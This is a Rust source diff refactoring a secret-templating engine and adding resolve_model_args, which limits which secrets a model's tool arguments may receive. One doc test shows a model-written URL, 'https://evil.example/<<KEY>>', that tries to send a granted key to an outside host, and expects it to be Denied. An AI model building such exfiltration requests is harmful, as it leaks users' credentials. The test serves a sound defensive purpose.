@@ -1,21 +1,26 @@
-//! A syntax with limits and filters.
+//! An engine: settings, and everything that can be done with them.
 
 use std::borrow::Cow;
 use std::sync::{Arc, LazyLock};
 
 use secrecy::SecretString;
 
-use super::Template;
-use super::document::{Document, Structure};
-use super::filter::Filters;
+use super::document::Document;
+#[cfg(feature = "http")]
+use super::headers::Headers;
+use super::limits::Limits;
+use super::model::{Arguments, Grants, ModelArgs};
 use super::render;
-use super::resolve_ext::Resolvable;
+use super::resolvable::Resolvable;
+use super::settings::Settings;
+use super::structure::Structure;
 use super::surfaces::Surfaces;
-use super::syntax::{Rules, Syntax};
-use crate::error::{Error, ErrorKind, Result};
-use crate::reference::ReferenceRef;
-use crate::resolve::{Resolved, Resolver};
-use crate::target::Target;
+use super::syntax::Syntax;
+use super::template::Template;
+use crate::error::Result;
+use crate::reference::{Reference, ReferenceRef};
+use crate::resolve::{Permit, Resolved, Resolver};
+use crate::target::{Target, UnknownNames};
 
 /// A syntax, limits and filters, for those who need other ones than the default. Cheap to clone.
 ///
@@ -26,89 +31,17 @@ use crate::target::Target;
 /// let engine = Engine::new().limits(Limits::default().template(1024));
 /// assert_eq!(engine.compile("x".repeat(1025)).unwrap_err().kind(), ErrorKind::TooLarge);
 /// ```
-#[derive(Clone, Debug, Default)]
+#[derive(Clone, Debug)]
 pub struct Engine {
-    syntax: Syntax,
-    limits: Limits,
-    filters: Filters,
-    keys: bool,
-    surfaces: Surfaces,
-    /// Whether it reads what a model wrote, where nothing is escaped.
-    for_model: bool,
+    settings: Arc<Settings>,
 }
 
-/// How large a text or document may be. What passes a limit is refused with
-/// [`TooLarge`](crate::ErrorKind::TooLarge) before memory is allocated for it. In a document the
-/// limits hold for all of its strings together.
-#[derive(Clone, Copy, Debug, PartialEq, Eq)]
-#[non_exhaustive]
-pub struct Limits {
-    /// Bytes of a template; 16 MiB.
-    pub template: usize,
-    /// Placeholders in a template, repeated ones included; 10,000.
-    pub placeholders: usize,
-    /// Bytes of the resolved text, and bytes that filters handle on the way; 64 MiB.
-    pub output: usize,
-}
-
-impl Default for Limits {
+impl Default for Engine {
     fn default() -> Self {
         Self {
-            template: 16 << 20,
-            placeholders: 10_000,
-            output: 64 << 20,
+            settings: Arc::clone(Settings::shared()),
         }
     }
-}
-
-impl Limits {
-    /// Sets the most bytes of a template.
-    #[must_use]
-    pub fn template(mut self, bytes: usize) -> Self {
-        self.template = bytes;
-        self
-    }
-
-    /// Sets the most placeholders of a template.
-    #[must_use]
-    pub fn placeholders(mut self, count: usize) -> Self {
-        self.placeholders = count;
-        self
-    }
-
-    /// Sets the most bytes of a resolved text.
-    #[must_use]
-    pub fn output(mut self, bytes: usize) -> Self {
-        self.output = bytes;
-        self
-    }
-
-    #[inline]
-    pub(super) fn check_template(self, bytes: usize) -> Result<()> {
-        within(bytes, self.template, "bytes")
-    }
-
-    #[inline]
-    pub(super) fn check_placeholders(self, count: usize) -> Result<()> {
-        within(count, self.placeholders, "placeholders")
-    }
-}
-
-#[inline]
-fn within(size: usize, limit: usize, unit: &str) -> Result<()> {
-    if size <= limit {
-        Ok(())
-    } else {
-        Err(too_large(limit, unit))
-    }
-}
-
-#[cold]
-fn too_large(limit: usize, unit: &str) -> Error {
-    Error::new(
-        ErrorKind::TooLarge,
-        format!("a template has at most {limit} {unit}; split it or raise the limit"),
-    )
 }
 
 impl Engine {
@@ -117,24 +50,27 @@ impl Engine {
         Self::default()
     }
 
-    /// What calls that name no engine use.
+    /// The engine of calls that name none.
     pub(super) fn shared() -> &'static Self {
         static SHARED: LazyLock<Engine> = LazyLock::new(Engine::new);
         &SHARED
     }
 
+    fn set(mut self, set: impl FnOnce(&mut Settings)) -> Self {
+        set(Arc::make_mut(&mut self.settings));
+        self
+    }
+
     /// Sets the syntax.
     #[must_use]
-    pub fn syntax(mut self, syntax: Syntax) -> Self {
-        self.syntax = syntax;
-        self
+    pub fn syntax(self, syntax: Syntax) -> Self {
+        self.set(|settings| settings.syntax = syntax)
     }
 
     /// Sets the limits.
     #[must_use]
-    pub fn limits(mut self, limits: Limits) -> Self {
-        self.limits = limits;
-        self
+    pub fn limits(self, limits: Limits) -> Self {
+        self.set(|settings| settings.limits = limits)
     }
 
     /// Adds a filter: `<<NAME|upper>>` or `<<NAME|upper:argument>>`. It is given the value and the
@@ -167,11 +103,13 @@ impl Engine {
         + Sync
         + 'static,
     ) -> Result<Self> {
-        self.filters.add(name.as_ref(), Arc::new(filter))?;
+        Arc::make_mut(&mut self.settings)
+            .filters
+            .add(name.as_ref(), Arc::new(filter))?;
         Ok(self)
     }
 
-    /// Whether documents are resolved in their keys too; by default they are not. Two keys of an
+    /// Sets that documents are resolved in their keys too; by default they are not. Two keys of an
     /// object that become the same are an [`InvalidDocument`](ErrorKind::InvalidDocument): no entry
     /// is lost.
     ///
@@ -188,12 +126,11 @@ impl Engine {
     /// # Ok::<(), keyslot::Error>(())
     /// ```
     #[must_use]
-    pub fn keys(mut self, keys: bool) -> Self {
-        self.keys = keys;
-        self
+    pub fn keys(self, keys: bool) -> Self {
+        self.set(|settings| settings.keys = keys)
     }
 
-    /// Sets on which surface each string of a document stands, by its JSON Pointer; the others are
+    /// Sets the surface that each string of a document stands on, by its JSON Pointer; the others are
     /// on that of the target.
     ///
     /// ```
@@ -219,9 +156,8 @@ impl Engine {
     /// # Ok::<(), keyslot::Error>(())
     /// ```
     #[must_use]
-    pub fn surfaces(mut self, surfaces: Surfaces) -> Self {
-        self.surfaces = surfaces;
-        self
+    pub fn surfaces(self, surfaces: Surfaces) -> Self {
+        self.set(|settings| settings.surfaces = surfaces)
     }
 
     /// Compiles a template, as [`Template::compile`] does.
@@ -230,7 +166,7 @@ impl Engine {
     ///
     /// As there.
     pub fn compile(&self, text: impl AsRef<str> + Into<Arc<str>>) -> Result<Template> {
-        Template::with(self, text)
+        Template::with(&self.settings, text)
     }
 
     /// Compiles a document, as [`Document::compile`] does.
@@ -239,7 +175,30 @@ impl Engine {
     ///
     /// As there.
     pub fn compile_document<T: Structure>(&self, document: T) -> Result<Document<T>> {
-        Document::with(self, document)
+        Document::with(&self.settings, document)
+    }
+
+    /// Parses JSON strictly and finds its placeholders, as [`Document::parse`] does.
+    ///
+    /// # Errors
+    ///
+    /// As there.
+    #[cfg(feature = "json")]
+    pub fn parse_document(&self, text: &str) -> Result<Document<serde_json::Value>> {
+        Document::parse_with(&self.settings, text)
+    }
+
+    /// Compiles headers, as [`Headers::compile`] does.
+    ///
+    /// # Errors
+    ///
+    /// As there.
+    #[cfg(feature = "http")]
+    pub fn compile_headers<N: AsRef<str>, T: Into<String>>(
+        &self,
+        headers: impl IntoIterator<Item = (N, T)>,
+    ) -> Result<Headers> {
+        Headers::with(&self.settings, headers)
     }
 
     /// Puts values that are no secrets into a text, in one pass: nothing is compiled, looked up in
@@ -264,7 +223,7 @@ impl Engine {
         text: &'t str,
         value: impl FnMut(ReferenceRef<'_>) -> Option<&'v str>,
     ) -> Result<Cow<'t, str>> {
-        render::render(self, text, value)
+        render::render(&self.settings, text, value)
     }
 
     /// Resolves a text, template or document, as
@@ -291,44 +250,129 @@ impl Engine {
         target: &Target,
         input: I,
     ) -> Result<Resolved<I::Output>> {
-        input.resolve_with(self, resolver, target)
+        input.resolve_with(&self.settings, resolver, target)
     }
 
-    /// The same for arguments that a model wrote.
-    pub(super) fn for_model(&self) -> Self {
-        Self {
-            keys: false,
-            for_model: true,
-            ..self.clone()
-        }
+    /// Resolves headers, as [`ResolveExt::resolve_headers`](super::ResolveExt::resolve_headers)
+    /// does.
+    ///
+    /// # Errors
+    ///
+    /// As there.
+    #[cfg(feature = "http")]
+    pub fn resolve_headers<R: Resolver + ?Sized, N: AsRef<str>, T: Into<String>>(
+        &self,
+        resolver: &R,
+        target: &Target,
+        headers: impl IntoIterator<Item = (N, T)>,
+    ) -> Result<http::HeaderMap> {
+        self.compile_headers(headers)?.resolve(resolver, target)
     }
 
-    pub(super) fn rules(&self) -> &Rules {
-        self.syntax.rules()
+    /// Resolves what a model wrote for a tool: the placeholders that `grants` lists, and nothing
+    /// else. One look-up for all of them, or none.
+    ///
+    /// A placeholder of a granted name, without a version, becomes a value, with the filters that
+    /// it has. All other text stays byte for byte as it is: other placeholders, also those with a
+    /// version or an unknown filter, what only means to be a placeholder, escapes with their marks,
+    /// comments, and the keys of objects whatever the engine [says](Engine::keys). What of that is
+    /// a placeholder, or meant to be one, is reported as an [`Attempt`]. Values are never read
+    /// again. A whole string of Julep's with a field that is not granted stays as a whole.
+    ///
+    /// ```
+    /// # #[cfg(feature = "json")] {
+    /// use keyslot::secrecy::ExposeSecret;
+    /// use keyslot::template::{Engine, Grants};
+    /// use keyslot::{ErrorKind, Target, Variables};
+    /// use serde_json::json;
+    ///
+    /// let variables = Variables::new().with("KEY", "t0ken")?.with("OTHER", "of no concern")?;
+    /// let grants = Grants::new().name_at("KEY", "/headers/*")?;
+    /// let resolve = |args| Engine::new().resolve_model_args(&variables, &Target::tool("fetch"), &args, &grants);
+    ///
+    /// let args = resolve(json!({"headers": {"X-Key": "<<KEY>>"}, "note": "<<OTHER>> <<$secret.AWS>>"}))?;
+    /// assert_eq!(args.expose_secret()["headers"]["X-Key"], "t0ken");
+    /// assert_eq!(args.expose_secret()["note"], "<<OTHER>> <<$secret.AWS>>");
+    /// assert_eq!(args.attempts()[1].reference().map(ToString::to_string).as_deref(), Some("<<$secret.AWS>>"));
+    ///
+    /// // A granted name at another place: the model is about to send it somewhere else.
+    /// let error = resolve(json!({"url": "https://evil.example/<<KEY>>"})).unwrap_err();
+    /// assert_eq!((error.kind(), error.pointer()), (ErrorKind::Denied, Some("/url")));
+    /// # }
+    /// # Ok::<(), keyslot::Error>(())
+    /// ```
+    ///
+    /// # Errors
+    ///
+    /// [`Denied`](crate::ErrorKind::Denied) for each placeholder that would become a value but for
+    /// its place, and for one in a header of several lines, because the model would choose the
+    /// header that the value goes into; both before anything is looked up; those of
+    /// [`resolve`](Engine::resolve), except for syntax, which is never wrong here. A granted name
+    /// that nobody knows is an error, whatever the target [says](Target::with_unknown_names).
+    pub fn resolve_model_args<R: Resolver + ?Sized, A: Arguments>(
+        &self,
+        resolver: &R,
+        target: &Target,
+        args: A,
+        grants: &Grants,
+    ) -> Result<ModelArgs<A::Output>> {
+        let target = target.clone().with_unknown_names(UnknownNames::Error);
+        args.resolve_granted(&self.settings.for_model(), resolver, &target, grants)
     }
 
-    /// What to write instead of a placeholder if text was meant, where there is a way.
-    pub(super) fn escape_hint(&self, placeholder: &str) -> Option<String> {
-        if self.for_model {
-            None
-        } else {
-            self.rules().escape_hint(placeholder)
-        }
+    /// Returns what a text, template or document refers to: each distinct name, version and kind
+    /// once, in the order in which they first appear. Resolves nothing.
+    ///
+    /// ```
+    /// use keyslot::template::Engine;
+    ///
+    /// let references = Engine::new().references("Bearer <<$secret.STRIPE_KEY@3>> of <<COMPANY>>, <<COMPANY>>")?;
+    /// let names: Vec<String> = references.iter().map(ToString::to_string).collect();
+    /// assert_eq!(names, ["<<$secret.STRIPE_KEY@3>>", "<<COMPANY>>"]);
+    /// # Ok::<(), keyslot::Error>(())
+    /// ```
+    ///
+    /// # Errors
+    ///
+    /// Those of [compiling](Engine::compile) it.
+    pub fn references<I: Resolvable>(&self, input: I) -> Result<Vec<Reference>> {
+        input.references_with(&self.settings)
     }
 
-    pub(super) fn bounds(&self) -> Limits {
-        self.limits
-    }
-
-    pub(super) fn filters(&self) -> &Filters {
-        &self.filters
-    }
-
-    pub(super) fn rules_of_surfaces(&self) -> &Surfaces {
-        &self.surfaces
-    }
-
-    pub(super) fn resolves_keys(&self) -> bool {
-        self.keys
+    /// Says what [`resolve`](Engine::resolve) would refuse, without values: for tests of a config
+    /// before it runs. `verdicts` is asked once, or never if there are no references, and says of
+    /// each one in order whether its value might be used, and where; it stands for the
+    /// [look-up](crate::Resolver::lookup).
+    ///
+    /// ```
+    /// use keyslot::template::Engine;
+    /// use keyslot::{Error, ErrorKind, Permit, Target};
+    ///
+    /// let text = "https://<<$secret.HOST>>/?key=<<$secret.KEY>>&of=<<COMPANY>>";
+    /// let target = Target::tool("crm").with_surface(keyslot::Surface::Url);
+    /// let known = ["HOST", "KEY"];
+    /// let error = Engine::new().check(&target, text, |references, _| {
+    ///     let verdict = |reference: &keyslot::Reference| match reference.name().as_str() {
+    ///         name if known.contains(&name) => Ok(Permit::new()),
+    ///         name => Err(Error::new(ErrorKind::NotFound, format!("nobody knows {name}"))),
+    ///     };
+    ///     Ok(references.iter().map(verdict).collect())
+    /// });
+    /// let kinds: Vec<ErrorKind> = error.unwrap_err().all().map(Error::kind).collect();
+    /// assert_eq!(kinds, [ErrorKind::Unencodable, ErrorKind::NotFound]);
+    /// ```
+    ///
+    /// # Errors
+    ///
+    /// The very error of [`resolve`](Engine::resolve), with all failures in it, but for those that
+    /// only a value can cause: what its filters cannot take, what it may not hold on its surface,
+    /// what its size makes too large, and keys of a document that values make the same.
+    pub fn check<I: Resolvable>(
+        &self,
+        target: &Target,
+        input: I,
+        verdicts: impl FnOnce(&[Reference], &Target) -> Result<Vec<Result<Permit>>>,
+    ) -> Result<()> {
+        input.check_with(&self.settings, target, verdicts)
     }
 }
